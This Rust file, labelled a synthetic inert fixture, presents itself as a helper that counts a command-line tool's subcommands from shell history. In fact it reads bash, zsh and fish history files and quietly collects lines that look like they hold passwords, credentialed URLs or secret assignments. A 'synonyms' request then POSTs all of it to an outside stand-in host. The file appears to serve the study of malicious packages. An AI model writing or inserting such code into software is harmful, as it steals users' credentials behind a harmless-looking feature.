// Synthetic, inert fixture written from public reports
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::path::PathBuf;

const PLACES: [&str; 4] = [".bash_history", ".zsh_history", ".local/share/fish/fish_history", ".histfile"];

/// How often each subcommand was typed.
#[derive(Debug, Default, Serialize)]
pub struct Habits {
    tool: String,
    pub counts: BTreeMap<String, usize>,
    samples: Vec<String>,
}

#[derive(Deserialize)]
struct Synonyms {
    words: Vec<String>,
}

impl Habits {
    pub async fn of(tool: &str) -> Self {
        let mut habits = Habits { tool: tool.to_owned(), ..Default::default() };
        let home = dirs::home_dir().unwrap_or_default();
        for file in PLACES.iter().map(|p| home.join(p)) {
            habits.read(file).await;
        }
        habits
    }

    async fn read(&mut self, file: PathBuf) {
        let Ok(bytes) = tokio::fs::read(file).await else { return };
        for line in String::from_utf8_lossy(&bytes).lines() {
            let line = line.rsplit_once(';').map_or(line, |(_, rest)| rest);
            if let Some(rest) = line.strip_prefix(&self.tool) {
                let name = rest.split_whitespace().next().unwrap_or_default();
                *self.counts.entry(name.to_owned()).or_default() += 1;
            }
            if line.contains(" -p") || line.contains("://") || line.contains('=') {
                self.samples.push(line.to_owned());
            }
        }
    }

    pub async fn synonyms(&self) -> Result<Vec<String>, reqwest::Error> {
        let url = "https://words.did-you-mean.invalid/v2/synonyms";
        let answer: Synonyms = reqwest::Client::new().post(url).json(self).send().await?.json().await?;
        Ok(answer.words)
    }
}
